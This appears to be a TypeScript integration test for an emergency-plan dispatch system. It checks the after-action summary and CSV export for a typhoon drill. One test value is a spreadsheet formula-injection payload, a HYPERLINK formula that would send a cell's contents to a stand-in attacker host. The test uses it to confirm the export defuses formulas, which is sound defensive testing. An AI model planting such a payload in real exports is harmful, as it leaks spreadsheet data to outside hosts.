import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { worldNow, type Inspection, type LogEvent, type PrepositionOrder, type ReplaySummary } from '@egret/protocol';
import { waitFor } from './hub-fixture.ts';
import { input, readLogEvents, registerUnit } from './loop-fixture.ts';
import {
  addUser,
  connectOutcome,
  PASSWORD,
  screenWith,
  sendCommand,
  sessionCookie,
  startAuthHub,
  type AuthHub,
  type AuthSocket,
} from './auth-fixture.ts';
import { planConfig } from './plans-fixture.ts';

const HOUR = 3_600_000;
const MINUTE = 60_000;
const POINTS = 12;
/** A 督办 note as an attacker would write it: a spreadsheet formula, quotes, a comma and a line break. */
const NOTE = '=HYPERLINK("http://evil.example/?"&A1,"点我"),\n@SUM(1)';
/** World time of the drill: a whole hour a day ahead of real time, so no event before it runs later than it. */
const W0 = Math.ceil((Date.now() + 24 * HOUR) / HOUR) * HOUR;

describe('the after-action summary of a plan (issue #17): what was ordered, done by when and late, as the raw log says', () => {
  let hub: AuthHub;
  let cookie: string;
  const sockets: AuthSocket[] = [];
  const screenOf = async (user: string): Promise<AuthSocket> => {
    const socket = screenWith(hub.url, { cookie: await sessionCookie(hub.url, user, PASSWORD) });
    sockets.push(socket);
    expect(await connectOutcome(socket)).toBe('connected');
    return socket;
  };
  const world = () => hub.app.world();
  const clockAt = async (baseWorld: number) => {
    await input(hub.redis, hub.keys, {
      kind: 'clock.set',
      at: baseWorld,
      clock: { baseReal: Date.now(), baseWorld, rate: 1 },
    });
    await waitFor(`the clock at ${new Date(baseWorld).toISOString()}`, () => world().clock.baseWorld === baseWorld);
  };
  const nowWorld = () => worldNow(world().clock, Date.now());
  const check = async (i: Inspection, result: 'passed' | 'problem', caseId?: string) => {
    await input(hub.redis, hub.keys, {
      kind: 'inspection.check',
      inspectionId: i.id,
      unitId: `U-${i.squadId}`,
      result,
      ...(caseId ? { caseId } : {}),
      at: nowWorld(),
    });
    await waitFor(`${i.id} checked`, () => world().inspections.get(i.id)?.status === result);
  };

  beforeAll(async () => {
    // The leader's pass is slowed right down: the plan moves by the commands and checks of the test alone.
    hub = await startAuthHub('plan-report', { config: planConfig(POINTS), planTickMs: 3_600_000 });
    await addUser(hub.store, 'cora', 'commander');
    await addUser(hub.store, 'dan', 'dispatcher');
    cookie = await sessionCookie(hub.url, 'cora', PASSWORD);
  });
  afterAll(async () => {
    for (const s of sockets) s.close();
    await hub?.closeAll();
  });

  it('activate, check some on time, let some run over, raise the level, 督办: the summary says exactly that', async () => {
    const cora = await screenOf('cora');
    const dan = await screenOf('dan');
    await clockAt(W0);
    const activated = await sendCommand(cora, 'plan:activate', {
      planId: 'test-typhoon',
      level: 'IV',
      reason: '蓝色预警',
    });
    expect(activated).toMatchObject({ ok: true, data: { issued: { inspections: POINTS } } });
    await waitFor('the round in the mirror', () => world().inspections.size === POINTS);
    const round = [...world().inspections.values()].sort((a, b) => (a.id < b.id ? -1 : 1));
    // One unit per squad the round went to, so each check comes from the inspection's own squad.
    const squads = [...new Set(round.map((i) => i.squadId))].sort();
    for (const s of squads)
      await registerUnit(hub.redis, hub.keys, `U-${s}`, {
        squadId: s,
        district: round.find((i) => i.squadId === s)!.district,
      });
    await waitFor('units registered', () => world().units.size === squads.length);

    // On time: three passed, one problem (its case reported in the same commit).
    await check(round[0]!, 'passed');
    await check(round[1]!, 'passed');
    await check(round[2]!, 'passed');
    await check(round[3]!, 'problem', 'PR-1');
    // Four hours on: the round's deadline (180 min) has passed; two checked late, the rest run over.
    await clockAt(W0 + 4 * HOUR);
    await check(round[4]!, 'passed');
    await check(round[5]!, 'problem', 'PR-2');
    // Raised to Ⅱ: two units ordered to the muster point within 60 min; none goes.
    const up = await sendCommand(cora, 'plan:activate', { planId: 'test-typhoon', level: 'II', reason: '橙色预警' });
    expect(up).toMatchObject({ ok: true, data: { issued: { prepositions: 2 } } });
    await waitFor('two orders', () => world().prepositions.size === 2);
    const behind = round[6]!.squadId;
    expect(
      await sendCommand(dan, 'plan:supervise', {
        planId: 'test-typhoon',
        actionId: 'boards',
        squadId: behind,
        note: NOTE,
      }),
    ).toMatchObject({
      ok: true,
    });
    await waitFor('supervised', () => world().supervisions.length === 1);
    await clockAt(W0 + 6 * HOUR);

    const from = W0 - MINUTE;
    const to = W0 + 7 * HOUR;
    const res = await fetch(`${hub.url}/api/replay/summary?from=${from}&to=${to}`, { headers: { cookie } });
    expect(res.status).toBe(200);
    const summary = (await res.json()) as ReplaySummary;
    expect(summary.plans).toHaveLength(1);
    const plan = summary.plans![0]!;

    // What the test did, in figures.
    expect(plan).toMatchObject({ planId: 'test-typhoon', name: '防台风预案（测试）' });
    expect(plan.orders.map((o) => [o.change, o.level, o.fromLevel, o.reason, o.actor.id, o.actions])).toEqual([
      ['activated', 'IV', undefined, '蓝色预警', 'cora', ['boards']],
      ['level_changed', 'II', 'IV', '橙色预警', 'cora', ['boards', 'muster', 'tight']],
    ]);
    const [boards, muster] = plan.actions;
    expect(boards).toMatchObject({ actionId: 'boards', name: '户外广告巡查', kind: 'round' });
    expect(boards).toMatchObject({ total: POINTS, done: 6, doneLate: 2, problems: 2, pending: 0, overdue: POINTS - 6 });
    expect(muster).toMatchObject({ actionId: 'muster', kind: 'preposition', total: 2, done: 0, overdue: 2 });
    expect(plan.late).toHaveLength(POINTS - 6 + 2 + 2);
    expect(plan.supervisions).toMatchObject([{ actionId: 'boards', squadId: behind, actor: { id: 'dan' } }]);

    // Plain counting over the raw log: the window by the running maximum of `at`, the cohort issued in it.
    let runMax = 0;
    const inWindow: LogEvent[] = [];
    for (const e of await readLogEvents(hub.redis, hub.keys)) {
      runMax = Math.max(runMax, e.at);
      if (runMax > from && runMax <= to) inWindow.push(e);
    }
    const last = new Map<string, Inspection>();
    for (const e of inWindow) {
      if (e.type === 'inspections.issued') for (const i of e.inspections) last.set(i.id, i);
      if (e.type === 'inspection.checked' && last.has(e.inspection.id)) last.set(e.inspection.id, e.inspection);
    }
    const orders = new Map<string, PrepositionOrder>();
    for (const e of inWindow) if (e.type === 'prepositions.changed') for (const o of e.orders) orders.set(o.id, o);
    const all = [...last.values()];
    const tally = (xs: Inspection[]) => ({
      total: xs.length,
      done: xs.filter((i) => i.status !== 'open').length,
      doneLate: xs.filter((i) => i.status !== 'open' && i.checkedAt! > i.due).length,
      overdue: xs.filter((i) => i.status === 'open' && to > i.due).length,
      pending: xs.filter((i) => i.status === 'open' && to <= i.due).length,
      problems: xs.filter((i) => i.status === 'problem').length,
    });
    expect(boards).toMatchObject(tally(all));
    const districts = [...new Set(all.map((i) => i.district))].sort();
    expect(boards!.byDistrict.map((d) => [d.district, d.total, d.done, d.doneLate, d.overdue])).toEqual(
      districts.map((d) => {
        const t = tally(all.filter((i) => i.district === d));
        return [d, t.total, t.done, t.doneLate, t.overdue];
      }),
    );
    for (const s of boards!.bySquad) expect(s).toMatchObject(tally(all.filter((i) => i.squadId === s.squadId)));
    expect(boards!.bySquad.map((s) => s.squadId).sort()).toEqual(squads);
    expect(muster!.total).toBe(orders.size);
    expect(plan.orders).toHaveLength(inWindow.filter((e) => e.type === 'plan.changed').length);
    expect(plan.supervisions).toHaveLength(inWindow.filter((e) => e.type === 'plan.supervised').length);

    // The same in the CSV download.
    const csv = await (
      await fetch(`${hub.url}/api/replay/summary?from=${from}&to=${to}&format=csv`, { headers: { cookie } })
    ).text();
    expect(csv).toContain(
      'plan_action,action,name,kind,first_at,last_due,total,done,done_late,pending,overdue,problems,released',
    );
    expect(csv).toContain(`test-typhoon,boards,户外广告巡查,round,`);
    expect(csv).toMatch(
      new RegExp(`test-typhoon,boards,户外广告巡查,round,[^,]+,[^,]+,${POINTS},6,2,0,${POINTS - 6},2,0`),
    );
    expect(csv).toMatch(/test-typhoon,muster,集结,preposition,[^,]+,[^,]+,2,0,0,0,2,0,0/);

    // Free text reaches the CSV as text: quoted, and a leading formula sign defused with an apostrophe.
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点我""),\n@SUM(1)"`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
    expect(plan.supervisions[0]!.note).toBe(NOTE);

    // A window before the plan knows nothing of it.
    const before = (await (
      await fetch(`${hub.url}/api/replay/summary?from=${W0 - 2 * HOUR}&to=${W0 - MINUTE}`, { headers: { cookie } })
    ).json()) as ReplaySummary;
    expect(before.plans).toEqual([]);
  });
});
